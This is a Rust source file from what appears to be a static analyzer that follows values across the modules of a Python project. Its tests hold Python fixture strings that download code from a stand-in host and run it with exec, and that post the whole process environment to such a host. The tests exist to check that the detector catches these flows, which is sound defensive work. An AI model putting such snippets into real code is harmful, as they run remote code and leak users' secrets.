//! A source walked together with other modules of its project: what it imports from one of them is what that module
//! made of the name, so values are followed from file to file.

use std::borrow::Cow;
use std::rc::Rc;

use crate::Unit;
use crate::interpreter::{DEEPEST, Frame, Interpreter, MODULE_SCOPE};
use crate::names::FastMap;
use crate::scope::Scope;
use crate::value::{Data, Value};

/// The modules that may be entered, and the scopes of those that were.
#[derive(Default)]
pub(crate) struct Project<'b> {
    units: &'b [Unit<'b>],
    by_module: FastMap<&'b str, usize>,
    entered: Vec<Option<u32>>,
}

impl<'b> Project<'b> {
    /// `root` is the unit where the walk begins.
    pub(crate) fn new(units: &'b [Unit<'b>], root: usize) -> Self {
        let mut entered = vec![None; units.len()];
        if let Some(scope) = entered.get_mut(root) {
            *scope = Some(MODULE_SCOPE);
        }
        let by_module = units.iter().enumerate().map(|(at, unit)| (unit.module, at));
        Self { units, by_module: by_module.filter(|(module, _)| !module.is_empty()).collect(), entered }
    }
}

impl<'a, 'b> Interpreter<'a, 'b> {
    /// The member that a source is, or is a layer of.
    pub(crate) fn unit_at(&self, source: usize) -> &'b Unit<'b> {
        let member = self.sources.get(source).and_then(|walked| walked.member);
        member.and_then(|at| self.project.units.get(at)).unwrap_or(self.unit)
    }

    pub(crate) fn unit_here(&self) -> &'b Unit<'b> {
        self.unit_at(self.frame.source)
    }

    /// The scope of the module that is being walked.
    pub(crate) fn module_scope(&self) -> u32 {
        self.sources.get(self.frame.source).map_or(MODULE_SCOPE, |walked| walked.scope)
    }

    /// What a module of the project calls by that name; nothing when it is no module of the project.
    pub(crate) fn of_project(&mut self, module: &str, name: &str) -> Option<Value<'a>> {
        if self.project.by_module.is_empty() {
            return None;
        }
        let full = format!("{module}.{name}");
        if self.project.by_module.contains_key(full.as_str()) {
            self.enter_module(&full);
            return Some(Value::new(self.named(&full)));
        }
        let scope = self.enter_module(module)?;
        let value = self.scopes[scope as usize].variables.get(name)?;
        (!value.is_unknown() || value.origin.is_some()).then(|| value.clone())
    }

    /// `from .core import *` of a module of the project.
    pub(crate) fn all_of_project(&mut self, module: &str) {
        let Some(from) = self.enter_module(module) else { return };
        let public = |name: &&Cow<'a, str>| !name.starts_with('_');
        let mut names: Vec<_> = self.scopes[from as usize].variables.keys().filter(public).cloned().collect();
        names.sort();
        for name in names.into_iter().take(2_000) {
            if let Some(value) = self.scopes[from as usize].variables.get(&name).cloned() {
                self.set(name, value);
            }
        }
    }

    /// `module.name = value`, where the module is one of the project.
    pub(crate) fn set_in_project(&mut self, module: &str, name: Cow<'a, str>, value: Value<'a>) {
        if let Some(scope) = self.enter_module(module) {
            self.set_in(scope, name, value);
        }
    }

    /// Walks a module of the project when it is first imported, and gives its scope.
    pub(crate) fn enter_module(&mut self, module: &str) -> Option<u32> {
        let at = *self.project.by_module.get(module)?;
        if let Some(scope) = self.project.entered[at] {
            return Some(scope);
        }
        if self.depth + 16 >= DEEPEST {
            return None;
        }
        let scope = u32::try_from(self.scopes.len()).ok()?;
        self.scopes.push(Scope { captured: true, ..Scope::default() });
        self.project.entered[at] = Some(scope);
        let text = crate::source::decode(self.project.units[at].source).text;
        if crate::guard::check(&text).is_err() {
            return Some(scope);
        }
        let parsed = self.arena.keep(crate::layer::parse(text));
        let source = self.open_source(parsed, Vec::new());
        self.sources[source].member = Some(at);
        self.sources[source].scope = scope;
        let frame = Frame {
            source,
            scope,
            phase: self.frame.phase,
            function: Rc::from("<module>"),
            class: None,
            this: None,
            silenced: false,
            returned: None,
            yielded: None,
        };
        let outer = std::mem::replace(&mut self.frame, frame);
        // What a module binds stays bound, whichever branch imported it.
        let journals = std::mem::take(&mut self.journals);
        let statement = self.statement;
        self.depth += 8;
        self.block(&parsed.module.body);
        self.depth -= 8;
        self.statement = statement;
        self.journals = journals;
        self.frame = outer;
        Some(scope)
    }

    /// A value as the project knows it: a name of one of its modules becomes what is behind it.
    pub(crate) fn known_to_project(&mut self, value: Value<'a>) -> Value<'a> {
        if self.project.by_module.is_empty() {
            return value;
        }
        let Data::Name(id, 0) = value.data else { return value };
        let full = self.names.shared(id);
        let Some((module, name)) = full.rsplit_once('.') else { return value };
        self.of_project(module, name).unwrap_or(value)
    }
}

#[cfg(test)]
mod tests {
    use crate::tests::{analysed_together, flow};

    #[test]
    fn a_value_is_followed_from_file_to_file() {
        let fetch = "import requests\ndef text(where):\n return requests.get(where).text\n";
        let run = "from .net import text\nexec(text('https://host.invalid/a'))\n";
        let analysis = analysed_together(&[("pkg/__init__.py", run), ("pkg/net.py", fetch)]);
        let flow = flow(&analysis, "network.fetch", "code.exec");
        assert_eq!((flow.member.as_str(), flow.source_member.as_str()), ("pkg/__init__.py", "pkg/net.py"));
        assert_eq!((flow.source_line, flow.source_text.as_slice()), (3, &["https://host.invalid/a".to_owned()][..]));
    }

    #[test]
    fn however_it_is_handed_over() {
        let send =
            "import requests\nclass Out:\n def send(self, x):\n  requests.post('https://host.invalid', json=x)\n";
        for (root, other) in [
            // A class below one of another module.
            ("from .net import Out\nimport os\nclass A(Out):\n pass\nA().send(dict(os.environ))\n", send),
            // An attribute that another module fills.
            ("from . import state\nfrom . import net\nimport os\nnet.Out().send(state.HELD)\n", send),
            ("from .net import *\nimport os\nOut().send(os.environ)\n", send),
            ("import importlib, os\nm = importlib.import_module('pkg.net')\nm.Out().send(os.environ)\n", send),
        ] {
            let state = "import os\nHELD = {k: v for k, v in os.environ.items()}\n";
            let all = [("pkg/__init__.py", root), ("pkg/net.py", other), ("pkg/state.py", state)];
            flow(&analysed_together(&all), "environment.read", "network.send");
        }
    }

    #[test]
    fn modules_that_import_each_other_come_to_an_end() {
        let all = [("pkg/__init__.py", "from .a import x\nexec(x)\n"), ("pkg/a.py", "from . import b\nx = b.y\n")];
        let more = [all[0], all[1], ("pkg/b.py", "from .a import x\nfrom . import a\ny = a.x\n")];
        assert!(analysed_together(&more).gaps.is_empty());
    }
}
